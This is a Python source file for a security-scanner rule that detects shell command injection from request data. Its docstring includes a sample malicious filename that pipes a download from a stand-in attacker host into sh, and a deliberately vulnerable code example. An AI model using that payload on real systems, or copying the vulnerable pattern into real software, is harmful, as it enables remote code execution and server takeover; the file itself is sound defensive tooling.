"""A shell command line is built from request data (or a value of unknown origin).

## Why it matters
`os.system()`, `os.popen()`, `subprocess.getoutput()` and any `subprocess` call with
`shell=True` hand a string to `/bin/sh`, which interprets `;`, `|`, `&&`, `$(...)` and
backticks. A filename such as `x.png; curl evil.example/s | sh` then runs the attacker's
commands with the web server's permissions: reading `SECRET_KEY` and the database password,
planting a backdoor, reaching the internal network. Without a shell, a request-chosen
*program* (`subprocess.run([request.GET["tool"], ...])`) is just as bad.

A finding is high confidence when the command provably contains request data; medium or
low when it is built from a value whose origin ponyguard cannot see. Argument lists without
`shell=True` are safe as long as the program itself is fixed.

## Insecure example
```python
def thumbnail(request):
    name = request.POST["file"]
    os.system(f"convert uploads/{name} -resize 200x200 thumbs/{name}")
    subprocess.run("gzip " + name, shell=True)
```

## Fix
Pass an argument list and no shell, so that data stays one argument:
`subprocess.run(["convert", path, "-resize", "200x200", out], check=True)`. Put `--` before
data that could start with `-`. If a shell is unavoidable, quote every value with
`shlex.quote()`; better, do the work in Python (Pillow, `gzip`, `shutil`).

## References
- https://docs.python.org/3/library/subprocess.html#security-considerations
- https://owasp.org/www-community/attacks/Command_Injection
- https://cwe.mitre.org/data/definitions/78.html
"""

from __future__ import annotations

import ast
from collections.abc import Iterator

from ....core.finding import Finding
from ....core.rule import Rule
from ....core.severity import Confidence, Severity
from ...context import FileContext
from ...taint.sinks import SHELL
from ._support import argument, keyword, report

rule = Rule("PG210", "shell-injection", "Shell command built from request data",
            Severity.CRITICAL, Confidence.HIGH, cwe=(78,), doc_text=__doc__, runtime=False)

ALWAYS_SHELL = {
    "os.system": "command", "os.popen": "cmd", "subprocess.getoutput": "cmd",
    "subprocess.getstatusoutput": "cmd", "asyncio.create_subprocess_shell": "cmd",
    "commands.getoutput": "cmd", "commands.getstatusoutput": "cmd",
}
SUBPROCESS = frozenset({
    "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
    "subprocess.Popen",
})
PROGRAM_FIRST = frozenset({
    "asyncio.create_subprocess_exec", "os.execv", "os.execve", "os.execvp", "os.execvpe",
    "os.execl", "os.execle", "os.execlp", "os.execlpe",
})
FIX = ("Pass an argument list without shell=True (subprocess.run([prog, arg], check=True)); "
       "if a shell is unavoidable, quote each value with shlex.quote().")


@rule.on(ast.Call)
def check(node: ast.Call, ctx: FileContext) -> Iterator[Finding]:
    callee = ctx.qualname(node.func)
    if callee is None:
        return
    if callee in ALWAYS_SHELL:
        yield from _shell(node, argument(node, 0, ALWAYS_SHELL[callee]), ctx, f"{callee}()")
    elif callee in SUBPROCESS:
        command = argument(node, 0, "args")
        shell = keyword(node, "shell")
        if shell is not None and not (isinstance(shell, ast.Constant) and not shell.value):
            yield from _shell(node, command, ctx, f"{callee}(shell=True)")
        else:
            yield from _program(node, command, ctx, f"{callee}()")
    elif callee in PROGRAM_FIRST:
        yield from _program(node, argument(node, 0, "program"), ctx, f"{callee}()")


def _shell(node: ast.Call, command: ast.expr | None, ctx: FileContext,
           what: str) -> Iterator[Finding]:
    if command is None or isinstance(command, ast.Constant):
        return
    flow = ctx.flow(command, SHELL)
    if not flow.safe:
        yield report(rule, ctx, node, command, flow, f"the command line of {what}", fix=FIX,
                     severity=None if flow.tainted else Severity.HIGH)


def _program(node: ast.Call, command: ast.expr | None, ctx: FileContext,
             what: str) -> Iterator[Finding]:
    """Without a shell only the program matters: the first list item, or a plain string."""
    if isinstance(command, ast.Name):
        bound = ctx.assigned_value(command)
        if isinstance(bound, (ast.List, ast.Tuple)):
            command = bound
        elif bound is None or not isinstance(bound, (ast.JoinedStr, ast.BinOp, ast.Constant)):
            return
    if isinstance(command, (ast.List, ast.Tuple)):
        command = command.elts[0] if command.elts else None
    if command is None or isinstance(command, (ast.Constant, ast.Starred)):
        return
    flow = ctx.flow(command, SHELL)
    if flow.tainted:
        yield report(rule, ctx, node, command, flow, f"the program run by {what}", fix=FIX,
                     confidence=Confidence.HIGH)
